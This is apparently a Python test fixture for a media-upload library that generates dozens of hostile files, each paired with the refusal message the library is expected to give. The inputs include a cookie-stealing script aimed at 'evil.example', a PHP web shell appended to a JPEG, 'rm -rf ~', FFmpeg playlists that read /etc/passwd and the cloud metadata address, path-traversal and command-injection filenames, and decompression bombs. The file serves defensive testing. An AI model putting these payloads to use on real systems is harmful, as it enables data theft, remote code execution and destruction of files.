"""Files that mean harm, made on the spot: each is refused by what it is, whatever its name says.

`hostile_files` makes them all; tests push them through every way into the library.
"""

import gzip
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.breaking import (
    bmp_of,
    damaged_jpeg,
    gif_bomb,
    good_picture,
    good_sound,
    good_video,
    half,
    heic_of,
    noise_in_mdat,
    noisy_picture,
    png_of,
    png_with_bomb,
    tiff_of,
    webm_lasting,
    webp_canvas,
    with_zip,
    zip_archive,
    zip_bomb,
)

CUT_OFF = "The end of this file is missing: it was cut off while it was copied, downloaded or recorded."
BEHIND_VIDEO = "There is something else in this file after the video."
BEHIND_PICTURE = "There is something else in this file behind the picture."
DAMAGED_PICTURE = "A part of this picture cannot be shown: its picture data is damaged."
DAMAGED_VIDEO = "No picture of this video can be shown: its picture data is damaged or protected."


@dataclass(frozen=True)
class HostileFile:
    """One file: where it lies, the name it comes under, the sentence it must be refused with, and its code.

    `path` has a harmless name of its own: a name is only a name, and not every disk can hold every one.
    """

    path: Path
    name: str
    why: str
    code: str

    def __str__(self) -> str:
        return self.path.name


def hostile_files(folder: Path) -> list[HostileFile]:
    """All of them, written into `folder`; some five megabytes in a few seconds."""
    folder.mkdir(parents=True, exist_ok=True)
    found = []
    for label, (name, code, why, make) in _CASES.items():
        path = folder / label
        path.write_bytes(make())
        found.append(HostileFile(path=path, name=name, why=why, code=code))
    return found


def hostile_labels() -> list[str]:
    """The names of the files in the folder, to parametrize a test before they are made."""
    return list(_CASES)


def _text(words: str) -> Callable[[], bytes]:
    return words.encode


def _is(what: str) -> str:
    return f"This is {what}, not a video or a photo."


def _looks(what: str) -> str:
    return f"This looks like {what}, but it cannot be read: the file is damaged."


def _absurd(width: int, height: int) -> str:
    return (
        f"The picture is {width} x {height} pixels. Pictures of more than 80 megapixels are not opened here."
    )


_PLAYLIST = "a playlist that only points to other files"
_ZIP = "a ZIP archive or an office document"
_CONCAT = "ffconcat version 1.0\nfile /etc/passwd\n"
_HLS = "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:http://169.254.169.254/|file:///etc/passwd\n#EXT-X-ENDLIST\n"
_SVG = "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
_JS = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
_PROGRAM = b"MZ\x90\x00" + bytes(200)

# Label: the name it comes under, the code and sentence of its refusal, and how it is made.
_CASES: dict[str, tuple[str, str, str, Callable[[], bytes]]] = {
    # Nothing, and not enough.
    "empty": ("empty.mp4", "empty", "This file is empty: it has 0 bytes.", bytes),
    "mp4-half": ("half.mp4", "cut_off", CUT_OFF, lambda: half(good_video())),
    "mp4-almost": ("almost.mp4", "cut_off", CUT_OFF, lambda: good_video()[:-1]),
    "mp4-without-contents": ("a.mp4", "cut_off", CUT_OFF, lambda: half(good_video(is_faststart=False), 0.9)),
    "mp4-head-only": ("a.mp4", "cut_off", CUT_OFF, lambda: good_video()[:40]),
    "mov-half": ("half.mov", "cut_off", CUT_OFF, lambda: half(good_video("mov"))),
    "webm-half": ("half.webm", "cut_off", CUT_OFF, lambda: half(good_video("webm", "vp9"))),
    "mkv-half": ("half.mkv", "cut_off", CUT_OFF, lambda: half(good_video("mkv", "vp9"))),
    "avi-half": ("half.avi", "cut_off", CUT_OFF, lambda: half(good_video("avi", "mpeg4"))),
    "jpeg-half": ("half.jpg", "cut_off", CUT_OFF, lambda: half(noisy_picture("JPEG"))),
    "jpeg-almost": ("almost.jpg", "cut_off", CUT_OFF, lambda: noisy_picture("JPEG")[:-2]),
    "jpeg-head-only": ("head.jpg", "cut_off", CUT_OFF, lambda: noisy_picture("JPEG")[:20]),
    "png-half": ("half.png", "cut_off", CUT_OFF, lambda: half(noisy_picture("PNG"))),
    "webp-half": ("half.webp", "cut_off", CUT_OFF, lambda: half(noisy_picture("WEBP"))),
    "heic-half": ("half.heic", "cut_off", CUT_OFF, lambda: half(noisy_picture("HEIF"))),
    "heic-head-only": ("head.heic", "cut_off", CUT_OFF, lambda: noisy_picture("HEIF")[:60]),
    "avif-half": ("half.avif", "cut_off", CUT_OFF, lambda: half(noisy_picture("AVIF"))),
    "gif-half": ("half.gif", "cut_off", CUT_OFF, lambda: half(noisy_picture("GIF"))),
    # Under a false name.
    "program": ("holiday.mp4", "not_media", _is("a program"), lambda: _PROGRAM),
    "program-double-name": ("holiday.mp4.exe", "not_media", _is("a program"), lambda: b"\x7fELF" + bytes(99)),
    "script": ("clip.mov", "not_media", _is("a program"), _text("#!/bin/sh\nrm -rf ~\n")),
    "html": ("photo.jpg", "not_media", _is("a web page"), _text(_JS)),
    "svg": ("photo.webp", "not_media", _is("an SVG drawing"), _text(_SVG)),
    "pdf": ("photo.png", "not_media", _is("a PDF document"), _text("%PDF-1.7\n1 0 obj")),
    "postscript": (
        "photo.jpeg",
        "not_media",
        _is("a text file"),
        _text("%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) run"),
    ),
    "mvg": (
        "photo.gif",
        "not_media",
        _is("a text file"),
        _text("push graphic-context\nfill 'url(https://x/)'\n"),
    ),
    "zip": ("clip.mp4", "not_media", _is(_ZIP), zip_archive),
    "zip-bomb": ("clip.zip", "not_media", _is(_ZIP), zip_bomb),
    "gzip": ("clip.webm", "not_media", _is("a packed archive"), lambda: gzip.compress(bytes(1_000_000))),
    "psd": ("photo.jpg", "not_media", _is("a Photoshop picture"), lambda: b"8BPS\x00\x01" + bytes(60)),
    "sound": ("clip.mp4", "not_media", _is("a sound file"), lambda: b"ID3\x04" + bytes(60)),
    "text": ("clip.mp4", "not_media", _is("a text file"), _text("Dear diary,\n")),
    "bytes": (
        "clip.mp4",
        "not_media",
        _is("a kind of file we do not know"),
        lambda: b"\x8a\x01\x02\xff" * 40,
    ),
    # Scripts for FFmpeg.
    "concat-mp4": ("clip.mp4", "not_media", _is(_PLAYLIST), _text(_CONCAT)),
    "concat-jpg": ("clip.jpg", "not_media", _is(_PLAYLIST), _text(_CONCAT)),
    "hls-mp4": ("clip.mp4", "not_media", _is(_PLAYLIST), _text(_HLS)),
    "hls-jpg": ("clip.jpg", "not_media", _is(_PLAYLIST), _text(_HLS)),
    "hls-after-blanks": ("clip.mp4", "not_media", _is(_PLAYLIST), _text("\ufeff\n \n" + _HLS)),
    "dash": (
        "clip.mp4",
        "not_media",
        _is("a text file"),
        _text("<?xml version='1.0'?><MPD><BaseURL>file:///</MPD>"),
    ),
    "sdp": (
        "clip.mp4",
        "not_media",
        _is("a text file"),
        _text("v=0\nc=IN IP4 169.254.169.254\nm=video 0 RTP/AVP 96\n"),
    ),
    # The head of one thing on something else.
    "jpeg-head-html": ("a.jpg", "cut_off", CUT_OFF, lambda: b"\xff\xd8\xff\xe0" + _JS.encode()),
    "png-head-html": ("a.png", "cut_off", CUT_OFF, lambda: b"\x89PNG\r\n\x1a\n" + _JS.encode()),
    "gif-head-js": ("a.gif", "cut_off", CUT_OFF, lambda: b"GIF89a/*" + bytes(4) + b"*/=1;alert(1)//"),
    "webp-head-html": (
        "a.webp",
        "unreadable",
        _looks("a WebP picture"),
        lambda: b"RIFF" + struct.pack("<I", 4 + len(_JS)) + b"WEBP" + _JS.encode(),
    ),
    "bmp-head-text": (
        "a.bmp",
        "unreadable",
        _looks("a BMP picture"),
        _text("BMW is a make of cars, not a picture."),
    ),
    "tiff-head-text": ("a.tif", "unreadable", _looks("a TIFF picture"), lambda: b"II*\x00" + b"text" * 20),
    "mp4-head-html": (
        "a.mp4",
        "cut_off",
        CUT_OFF,
        lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(8) + b"mp42" + _JS.encode(),
    ),
    "mp4-boxes-of-garbage": (
        "a.mp4",
        "unreadable",
        _looks("an MP4 video"),
        lambda: b"\x00\x00\x00\x14ftypisom" + bytes(8) + b"\x00\x00\x00\x20moov" + b"\xff" * 24,
    ),
    "gif-before-mp4": (
        "a.mp4",
        "unreadable",
        _looks("a GIF picture"),
        lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + good_video(),
    ),
    # Two things in one.
    "jpeg-and-zip": ("a.jpg", "foreign_data", BEHIND_PICTURE, lambda: with_zip(good_picture("JPEG"))),
    "jpeg-and-words": (
        "a.jpg",
        "foreign_data",
        BEHIND_PICTURE,
        lambda: good_picture("JPEG") + b"<?php system($_GET[0]);",
    ),
    "jpeg-and-html": (
        "a.jpg.html",
        "foreign_data",
        BEHIND_PICTURE,
        lambda: good_picture("JPEG") + _JS.encode(),
    ),
    "png-and-zip": ("a.png", "foreign_data", BEHIND_PICTURE, lambda: with_zip(good_picture("PNG"))),
    "webp-and-zip": ("a.webp", "foreign_data", BEHIND_PICTURE, lambda: with_zip(good_picture("WEBP"))),
    "gif-and-js": ("a.gif", "foreign_data", BEHIND_PICTURE, lambda: good_picture("GIF") + b"*/=1;alert(1)"),
    "heic-and-zip": ("a.heic", "foreign_data", BEHIND_PICTURE, lambda: with_zip(good_picture("HEIF"))),
    "mp4-and-zip": ("a.mp4", "foreign_data", BEHIND_VIDEO, lambda: with_zip(good_video())),
    "mp4-and-html": ("a.mp4", "foreign_data", BEHIND_VIDEO, lambda: good_video() + _JS.encode()),
    "webm-and-zip": ("a.webm", "foreign_data", BEHIND_VIDEO, lambda: with_zip(good_video("webm", "vp9"))),
    "avi-and-zip": ("a.avi", "foreign_data", BEHIND_VIDEO, lambda: with_zip(good_video("avi", "mpeg4"))),
    "mp4-with-zip-in-a-box": (
        "a.mp4",
        "foreign_data",
        BEHIND_VIDEO,
        lambda: good_video() + struct.pack(">I", 8 + len(zip_archive())) + b"free" + zip_archive(),
    ),
    # Small files that would unpack to more than a machine holds.
    "png-bomb": ("bomb.png", "too_many_pixels", _absurd(50_000, 50_000), lambda: png_of(50_000, 50_000)),
    "png-absurd": (
        "bomb.png",
        "too_many_pixels",
        _absurd(2_000_000_000, 3),
        lambda: png_of(2_000_000_000, 3),
    ),
    "png-beyond": ("a.png", "unreadable", _looks("a PNG picture"), lambda: png_of(4_000_000_000, 3)),
    "png-remark-bomb": (
        "bomb.png",
        "unreadable",
        _looks("a PNG picture"),
        lambda: png_with_bomb(b"zTXt", b"Comment\x00\x00"),
    ),
    "png-profile-bomb": (
        "bomb.png",
        "unreadable",
        _looks("a PNG picture"),
        lambda: png_with_bomb(b"iCCP", b"p\x00\x00"),
    ),
    "webp-bomb": ("bomb.webp", "too_many_pixels", _absurd(16_383, 16_383), lambda: webp_canvas(16_383)),
    "gif-bomb": ("bomb.gif", "too_many_pixels", _absurd(65_535, 65_535), gif_bomb),
    "tiff-bomb": ("bomb.tif", "too_many_pixels", _absurd(90_000, 90_000), lambda: tiff_of(90_000, 90_000)),
    "bmp-bomb": ("bomb.bmp", "too_many_pixels", _absurd(30_000, 30_000), lambda: bmp_of(30_000, 30_000)),
    "heic-bomb": ("bomb.heic", "too_many_pixels", _absurd(30_000, 30_000), lambda: heic_of(30_000)),
    # Numbers that cannot be.
    "mp4-box-of-exabytes": (
        "a.mp4",
        "cut_off",
        CUT_OFF,
        lambda: good_video() + b"\x00\x00\x00\x01mdat" + b"\x7f" + b"\xff" * 7,
    ),
    "mp4-box-of-four-bytes": ("a.mp4", "cut_off", CUT_OFF, lambda: good_video() + b"\x00\x00\x00\x04free"),
    "mkv-part-of-petabytes": (
        "a.mkv",
        "cut_off",
        CUT_OFF,
        lambda: good_video("mkv", "vp9") + b"\x1f\x43\xb6\x75\x01" + b"\xfe" * 7,
    ),
    "webm-lasting-for-ever": ("a.webm", "cut_off", CUT_OFF, lambda: webm_lasting(9e12)),
    "mp4-noise": ("a.mp4", "undecodable", DAMAGED_VIDEO, noise_in_mdat),
    "jpeg-damaged": ("a.jpg", "undecodable", DAMAGED_PICTURE, damaged_jpeg),
    "mp4-sound-only": (
        "song.mp4",
        "no_picture",
        "This file has no moving picture, only sound or other data.",
        good_sound,
    ),
    # Names that are meant for somebody else than people.
    "name-with-path": (
        "../../../../etc/cron.d/x.mp4",
        "not_media",
        _is("a text file"),
        _text("* * * * * root id\n"),
    ),
    "name-with-drive": ("C:\\Windows\\x.jpg", "not_media", _is("a program"), lambda: _PROGRAM),
    "name-with-control": ("a\r\nX-Evil: 1\x00\x1b[2J.mp4", "not_media", _is("a web page"), _text(_JS)),
    "name-turned-round": ("holiday\u202egpj.exe", "not_media", _is("a program"), lambda: _PROGRAM),
    "name-with-markup": ("<img src=x onerror=alert(1)>.jpg", "not_media", _is("an SVG drawing"), _text(_SVG)),
    "name-like-an-option": ("-i.mp4", "not_media", _is(_PLAYLIST), _text(_CONCAT)),
    "name-like-a-command": ("$(touch x);`id`|x.mp4", "not_media", _is("a text file"), _text("hello")),
    "name-like-an-address": ("http:/169.254.169.254/x.mp4", "not_media", _is(_PLAYLIST), _text(_HLS)),
    "name-without-end": ("ä🎬" * 2000 + ".mp4", "not_media", _is(_ZIP), zip_archive),
    "name-of-dots": ("....", "not_media", _is("a text file"), _text("hello")),
}
